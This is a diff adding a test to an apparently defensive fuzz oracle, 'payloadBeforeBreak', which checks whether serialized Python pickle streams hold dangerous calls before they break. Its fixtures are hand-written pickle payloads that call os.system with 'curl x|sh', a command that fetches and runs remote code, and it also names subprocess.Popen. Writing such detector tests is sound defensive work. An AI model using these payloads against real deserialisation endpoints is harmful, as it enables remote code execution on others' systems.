@@ -67,6 +67,11 @@ describe("payloadBeforeBreak (the fuzz oracle)", () => {
     expect(payloadBeforeBreak(ascii("F1.5\ncsubprocess\nPopen\n"))).toMatchObject({ module: "subprocess" });
   });
 
+  it("a STRING argument without quotes breaks the stream (found by the fuzzer: an oracle false alarm)", () => {
+    expect(payloadBeforeBreak(ascii("(Sq'curl x|sh'\nios\nsystem\np0\n."))).toBeUndefined();
+    expect(payloadBeforeBreak(ascii("(S'curl x|sh'\nios\nsystem\np0\n."))).toMatchObject({ module: "os" });
+  });
+
   it("a GET of a memo entry never stored breaks the stream", () => {
     expect(payloadBeforeBreak(ascii("h\x05cos\nsystem\n"))).toBeUndefined();
   });
